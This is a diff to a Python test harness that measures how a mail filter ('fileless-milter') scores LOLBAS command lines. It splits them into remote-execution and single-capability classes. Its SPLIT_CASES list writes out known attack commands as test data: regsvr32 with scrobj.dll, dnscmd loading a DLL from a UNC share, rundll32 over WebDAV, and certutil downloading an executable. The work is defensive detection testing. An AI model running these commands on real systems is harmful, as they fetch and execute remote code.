@@ -6,6 +6,16 @@ with `fileless-milter -t --json` twice: with the shipped rules, and with the nam
 symbols (`^name` in rules/scoring.conf) weighing 0 ("content alone"). Malicious classes count
 how many samples reach quarantine or reject by content alone; clean classes count how many
 reach tag and quarantine with the shipped rules, and names alone must never pass tag.
+Single-capability classes (kind "single") count how many reach tag and how many quarantine
+by content alone: tag is what the chain model expects of them, both figures must not drop.
+
+LOLBAS command lines are split by a criterion fixed before any verdict was looked at, from
+the yml and the command's own text only (lolbas_split): `lolbas-remote-exec` holds the
+commands whose Category is Execute or AWL Bypass and that name remote content (a URL or UNC
+placeholder, an http(s)/ftp URL, a \\\\host\\share path, a WebDAV path): one command that runs
+remote code, a chain, expected at quarantine by content alone. `lolbas-single` holds the rest
+(Category Download, or a local-file execution, or a command run on another host): one
+capability, expected at tag.
 
 Samples (provenance in tests/corpus/behaviour/MANIFEST.md):
   tests/corpus/behaviour/mal/<class>/*    public attack-simulation samples (inert), lures
@@ -180,11 +190,42 @@ def js_malware():
 
 
 LOLBAS_CATEGORIES = ("Download", "Execute", "AWL Bypass")
+LOLBAS_RUN_CATEGORIES = ("Execute", "AWL Bypass")
+# remote content named by a command (its yml scalar decoded, placeholders not yet filled): a
+# URL or UNC placeholder, an http(s)/ftp URL, a UNC path \\host\share (any run of two or more
+# backslashes; a WMI namespace \\root\... is not one), a WebDAV path (@SSL, DavWWWRoot)
+LOLBAS_REMOTE_RE = re.compile(r"\{REMOTEURL|\{PATH_SMB|\b(?:https?|ftp)://|@SSL\\|DavWWWRoot"
+                              r"|(?<![\\\w])\\{2,}(?!root\\)[\w{][\w.{}:-]*\\+\w", re.I)
 
 
-def lolbas_lines():
+def lolbas_split(raw, cat):
+    """the class of one LOLBAS command line, decided from its yml category and its own text
+    (never from a verdict): 'remote-exec' when the category runs code (Execute, AWL Bypass)
+    and the command names remote content (LOLBAS_REMOTE_RE): remote content run by one
+    command, a chain that content alone must quarantine; else 'single' (a download alone, a
+    local proxy execution, a command on another host): one capability, tag expected"""
+    try:
+        cmd = str(yaml_scalar(raw))
+    except ValueError:
+        cmd = raw
+    if cat in LOLBAS_RUN_CATEGORIES and LOLBAS_REMOTE_RE.search(cmd):
+        return "remote-exec"
+    return "single"
+
+
+def yaml_scalar(raw):
+    """a yml scalar as YAML reads it (a double-quoted one unescaped); plain scalars as is"""
+    if not raw.startswith('"'):
+        return raw
+    try:
+        return json.loads(raw)
+    except json.JSONDecodeError as e:
+        raise ValueError(e)
+
+
+def lolbas_lines(which):
     """one .cmd per documented command line of every LOLBAS OS binary whose category is a
-    download or an execution (Download, Execute, AWL Bypass): per-command recall"""
+    download or an execution (Download, Execute, AWL Bypass), split by lolbas_split"""
     d = lolbas_dir()
     if d is None:
         return None
@@ -197,9 +238,11 @@ def lolbas_lines():
         # a command and the category that follows it in the same list item
         items = re.findall(r"^\s*-\s*Command:\s*(.+?)\n(?:.*\n)*?\s*Category:\s*(.+)$",
                            q.stdout, re.M)
-        for i, (cmd, cat) in enumerate(items):
-            cmd = cmd.strip().strip("'\"")
-            if cat.strip() not in LOLBAS_CATEGORIES or cmd in ("|", ">", ""):
+        for i, (raw, cat) in enumerate(items):
+            cmd, cat = raw.strip().strip("'\""), cat.strip()
+            if cat not in LOLBAS_CATEGORIES or cmd in ("|", ">", ""):
+                continue
+            if lolbas_split(raw.strip(), cat) != which:
                 continue
             text = "@echo off\r\n" + fill(cmd) + "\r\n"
             name = "%s-%d.cmd" % (yml[:-4].lower(), i)
@@ -342,7 +385,8 @@ CLASSES = [
     ("html-script", "mal", lambda: attach_each("mal/html-script", None)),
     ("js-obfuscated", "mal", js_obfuscated),
     ("lolbin-commands", "mal", lolbas_commands),
-    ("lolbas-lines", "mal", lolbas_lines),
+    ("lolbas-remote-exec", "mal", lambda: lolbas_lines("remote-exec")),
+    ("lolbas-single", "single", lambda: lolbas_lines("single")),
     ("js-malware", "mal", js_malware),
     ("js-libraries", "clean", js_libraries),
     ("js-libraries-known", "clean", known_libraries),
@@ -387,7 +431,24 @@ def names_weight(rep, scores):
     return sum(h["weight"] for h in rep["hits"] if h["symbol"] in scores)
 
 
+SPLIT_CASES = [  # (yml scalar as written, category, class): the criterion itself
+    ("regsvr32 /s /n /u /i:{REMOTEURL:.sct} scrobj.dll", "AWL Bypass", "remote-exec"),
+    ("dnscmd.exe dc1 /config /serverlevelplugindll \\\\10.0.0.1\\dll\\x.dll", "Execute",
+     "remote-exec"),
+    ("rundll32 \\\\webdav@SSL\\DavWWWRoot\\x.dll,Entry", "Execute", "remote-exec"),
+    ("certutil.exe -urlcache -f {REMOTEURL:.exe} x.exe", "Download", "single"),
+    ("regsvr32 /s {PATH_ABSOLUTE:.dll}", "Execute", "single"),
+    ("WMIC.exe /Namespace:\\\\root\\SecurityCenter2 Path AntiVirusProduct Get x", "Execute",
+     "single"),
+    ('"C:\\\\Program Files (x86)\\\\Microsoft\\\\Edge\\\\x.exe --gpu-launcher={CMD}"', "Execute",
+     "single"),
+]
+
+
 def main():
+    for raw, cat, want in SPLIT_CASES:
+        got = lolbas_split(raw, cat)
+        check("lolbas_split %s: %s" % (raw[:40], want), got == want, got)
     if not os.access(BIN, os.X_OK):
         skip("behaviour", BIN + " not built")
         return
@@ -429,12 +490,13 @@ def main():
         q_alone = sum(ORDER[r["verdict"]] >= 2 for r in alone)
         q_full = sum(ORDER[r["verdict"]] >= 2 for r in full)
         t_full = sum(ORDER[r["verdict"]] >= 1 for r in full)
+        t_alone = sum(ORDER[r["verdict"]] >= 1 for r in alone)
         names_over = [mails[i][0] for i, r in enumerate(full)
                       if names_weight(r, name_syms) >= 10]
         check(cls + ": names alone never above tag", not names_over, names_over)
-        rows.append((cls, kind, n, q_alone, q_full, t_full))
-        new_expect.append((cls, n, q_alone if kind == "mal" else q_full,
-                           t_full if kind == "clean" else 0))
+        rows.append((cls, kind, n, q_alone, t_alone, q_full, t_full))
+        new_expect.append((cls, n, q_full if kind == "clean" else q_alone,
+                           {"clean": t_full, "single": t_alone}.get(kind, 0)))
         for i, (name, _) in enumerate(mails):
             hot = [h["symbol"] for h in full[i]["hits"] if h["weight"] > 0]
             details.append("| %s | %s | %s | %s %.1f | %s %.1f | %s |" % (
@@ -445,6 +507,10 @@ def main():
             if kind == "mal":
                 check("%s: %d/%d reach quarantine by content alone (expected >= %d)" %
                       (cls, q_alone, n, eq), q_alone >= eq, "regression")
+            elif kind == "single":
+                check("%s: %d/%d tagged, %d quarantined by content alone (expected >= %d, >= %d)"
+                      % (cls, t_alone, n, q_alone, et, eq), t_alone >= et and q_alone >= eq,
+                      "regression")
             else:
                 check("%s: %d/%d quarantined, %d tagged (expected <= %d, <= %d)" %
                       (cls, q_full, n, t_full, eq, et), q_full <= eq and t_full <= et, "regression")
@@ -453,18 +519,20 @@ def main():
     shutil.rmtree(tmp, ignore_errors=True)
     md = ["# Behaviour corpus (tests/behaviour/run.py)", "",
           "Content alone: the score without name and type symbols (`^name` weighing 0).", "",
-          "| class | kind | samples | content alone >= quarantine | shipped rules >= quarantine | >= tag |",
-          "|---|---|---|---|---|---|"]
-    for cls, kind, n, qa, qf, tf in rows:
-        md.append("| %s | %s | %d | %d (%d%%) | %d | %d |" % (cls, kind, n, qa, 100 * qa // n, qf, tf))
+          "| class | kind | samples | content alone >= quarantine | content alone >= tag "
+          "| shipped rules >= quarantine | >= tag |",
+          "|---|---|---|---|---|---|---|"]
+    for cls, kind, n, qa, ta, qf, tf in rows:
+        md.append("| %s | %s | %d | %d (%d%%) | %d | %d | %d |" % (cls, kind, n, qa, 100 * qa // n,
+                                                                  ta, qf, tf))
     md += ["", "## Samples", "", "| class | kind | sample | content alone | shipped | symbols |",
            "|---|---|---|---|---|---|"] + details
     open("tests/out/behaviour.md", "w").write("\n".join(md) + "\n")
     print("\n".join(md[:6 + len(rows)]))
     if os.environ.get("UPDATE") == "1" and not only:
         with open(EXPECT, "w") as f:
-            f.write("# class\tsamples\tmal: min at quarantine by content alone; clean: max "
-                    "quarantined\tclean: max tagged\n")
+            f.write("# class\tsamples\tmal, single: min at quarantine by content alone; clean: "
+                    "max quarantined\tclean: max tagged; single: min tagged by content alone\n")
             for row in new_expect:
                 f.write("\t".join(str(x) for x in row) + "\n")
         print("   wrote " + EXPECT)
